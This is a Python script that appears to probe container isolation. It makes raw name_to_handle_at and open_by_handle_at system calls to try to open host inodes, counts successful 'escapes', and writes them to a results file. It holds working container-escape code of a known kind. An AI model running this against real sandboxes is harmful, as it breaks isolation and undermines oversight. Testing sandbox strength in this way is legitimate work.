import ctypes
import errno
import json
import os
from pathlib import Path

attempts = {}


def attempt(name, action, *arguments):
    """Notes what the system answers."""
    try:
        found = action(*arguments)
    except OSError as error:
        attempts[name] = errno.errorcode[error.errno]
    else:
        attempts[name] = f"reached: {found!r:.60}"


LIBC = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    """A bare system call of x86_64."""
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
    result = LIBC.syscall(ctypes.c_long(number), *words)
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result



class Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128))


def handle_of(path):
    handle, mount = Handle(128), ctypes.c_int()
    return call(303, -100, path, ctypes.byref(handle), ctypes.byref(mount), 0)


def open_inode(inode):
    handle = Handle(8, 1)
    handle.data[:8] = inode.to_bytes(4, "little") + bytes(4)
    return call(304, os.open("/home/in", os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY)


attempt("the handle of /", handle_of, b"/")
for inode in (1, 2, 128):
    attempt(f"inode {inode} of the host", open_inode, inode)
escapes = sum(found.startswith("reached") for found in attempts.values())
results = {"escapes": escapes, "attempts": attempts}
Path(os.environ["GATE2_OUT"], "results.json").write_text(json.dumps(results))
